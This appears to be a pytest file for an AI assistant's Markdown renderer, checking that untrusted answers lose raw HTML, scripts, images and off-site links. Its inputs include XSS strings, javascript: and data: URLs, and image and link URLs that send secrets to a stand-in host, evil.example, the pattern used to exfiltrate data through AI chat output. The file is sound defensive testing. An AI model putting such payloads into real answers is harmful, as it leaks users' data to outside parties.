"""Answers are untrusted Markdown: no raw HTML, no images, no links that leave the site."""

from __future__ import annotations

import pytest

from assistant.chat.markdown import render_markdown
from assistant.models import Conversation, Message

CITES = [{"n": 1, "title": "Leave policy"}]


def test_raw_html_and_scripts_are_shown_as_text():
    html = render_markdown('Hi <script>alert("x")</script> <b onclick="x()">bold</b>')

    assert "<script" not in html
    assert "<b" not in html
    assert "&lt;script&gt;" in html


def test_images_are_never_rendered_in_any_form():
    html = render_markdown(
        '![chart](https://evil.example/leak?q=secret) <img src="https://evil.example/x.png">\n\n'
        "![local](/static/x.png)"
    )

    # Nothing loads by being displayed: no <img> element, and the image URL is not even a link.
    assert "<img" not in html
    assert "&lt;img" in html
    assert "leak?q=secret" not in html


@pytest.mark.parametrize(
    "href",
    [
        "https://evil.example/leak?salary=E4",
        "http://evil.example",
        "//evil.example/x",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "mailto:someone@evil.example",
    ],
)
def test_links_that_leave_the_site_keep_only_their_label(href):
    html = render_markdown(f"See [the details]({href}).")

    assert "the details" in html
    assert "<a" not in html


def test_a_backslash_cannot_turn_a_path_into_another_site():
    # Browsers read "/\\host" as "//host"; the renderer percent-encodes the backslash instead.
    html = render_markdown("See [the details](/\\evil.example/x).")

    assert 'href="/\\' not in html
    assert 'href="//' not in html


def test_autolinks_to_other_sites_are_not_clickable():
    html = render_markdown("Go to <https://evil.example/leak>.")

    assert "<a" not in html


def test_links_within_the_site_are_kept():
    html = render_markdown("Open [the source](/sources/12) or [the top](#top).")

    assert '<a href="/sources/12">the source</a>' in html
    assert '<a href="#top">the top</a>' in html


def test_citations_become_chips_that_point_at_their_source():
    html = render_markdown("Leave is 20 weeks [1]. Also [2].", citations=CITES, anchor="m7")

    assert '<a class="cite" href="#m7-s1" data-cite="1" title="Leave policy">1</a>' in html
    # [2] names no source of this answer, so it stays text.
    assert "[2]" in html


def test_citation_markers_in_code_stay_code():
    html = render_markdown("Write `items[1]` like this.", citations=CITES)

    assert "<code>items[1]</code>" in html
    assert "cite" not in html


def test_a_hostile_title_cannot_break_out_of_the_chip():
    html = render_markdown("Yes [1].", citations=[{"n": 1, "title": '"><script>x()</script>'}])

    assert "<script" not in html
    assert "&quot;&gt;&lt;script&gt;" in html


def test_the_conversation_page_shows_answers_sanitised(client, alice):
    conversation = Conversation.objects.create(owner=alice, title="Leave")
    Message.objects.create(conversation=conversation, role="user", content="<b>hi</b>")
    Message.objects.create(
        conversation=conversation,
        role="assistant",
        content="<script>steal()</script> ![x](https://evil.example/p.png) [go](https://evil.example)",
    )
    client.force_login(alice)

    page = client.get(f"/conversations/{conversation.pk}/").content.decode()

    assert "<script>steal" not in page
    assert 'evil.example/p.png"' not in page
    assert 'href="https://evil.example' not in page
    assert "&lt;b&gt;hi&lt;/b&gt;" in page
